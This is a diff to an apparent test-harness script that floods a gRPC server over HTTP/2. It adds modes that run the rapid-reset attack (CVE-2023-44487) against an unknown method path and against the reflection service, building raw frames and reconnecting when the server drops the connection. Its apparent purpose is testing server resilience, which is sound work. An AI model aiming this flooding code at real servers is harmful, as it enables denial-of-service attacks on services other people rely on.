@@ -1,6 +1,6 @@
 """Attacks on a server, each in a process of its own beside the test:
 
-  flood.py PORT streams|pings|resets|hoard COUNT
+  flood.py PORT streams|pings|resets|unknown|reflection|hoard COUNT
 
 Prints one line of JSON: what it sent and how the server took it. `hoard` then
 holds what it has until its input ends.
@@ -41,28 +41,29 @@ def connect(port, kinds):
     return connection
 
 
-HEADERS = [(":method", "POST"), (":scheme", "http"),
-           (":path", h2_client.OVERVIEW), (":authority", "flood"),
-           ("te", "trailers"), ("content-type", "application/grpc"),
-           ("grpc-timeout", "60S")]
+REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 
 
-def call_frames(connection, stream):
+def call_frames(connection, stream, path=h2_client.OVERVIEW,
+                message=wire.overview_request()):
     """A whole call, as bytes: with no dynamic table, it can be sent again
     with another stream's number."""
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
+               (":authority", "flood"), ("te", "trailers"),
+               ("content-type", "application/grpc"), ("grpc-timeout", "60S")]
     with connection._lock:
         connection._encoder.header_table_size = 0
-        block = connection._encoder.encode(HEADERS, huffman=False)
-    body = wire.frame(wire.overview_request())
+        block = connection._encoder.encode(headers, huffman=False)
+    body = wire.frame(message)
     return (http2.pack(http2.HEADERS, http2.END_HEADERS, stream, block),
             http2.pack(http2.DATA, http2.END_STREAM, stream, body))
 
 
-def reset_frames(connection, stream):
+def reset_frames(connection, stream, *call):
     """A whole call, and its cancellation."""
     cancel = http2.pack(http2.RST_STREAM, 0, stream,
                         struct.pack(">I", http2.CANCEL))
-    return b"".join(call_frames(connection, stream)) + cancel
+    return b"".join(call_frames(connection, stream, *call)) + cancel
 
 
 def streams(port, number):
@@ -96,7 +97,7 @@ def pings(port, number):
     return sent, kinds, connection
 
 
-def resets(port, number):
+def resets(port, number, *call):
     """Calls that are cancelled as soon as they are made (CVE-2023-44487),
     with a new connection where the server ends the old."""
     kinds = {}
@@ -105,13 +106,22 @@ def resets(port, number):
     stream = 1
     while sent < number:
         try:
-            connection.send_raw(reset_frames(connection, stream))
+            connection.send_raw(reset_frames(connection, stream, *call))
             sent += 1
             stream += 2
         except OSError:
             connection = connect(port, kinds)
             stream = 1
     return sent, kinds, connection
+
+
+def unknown(port, number):
+    """The same of a method that nobody has: what gRPC answers by itself."""
+    return resets(port, number, "/a/b", b"")
+
+
+def reflection(port, number):
+    return resets(port, number, REFLECTION, wire.field(7, ""))
 
 
 def hoard(port, number):
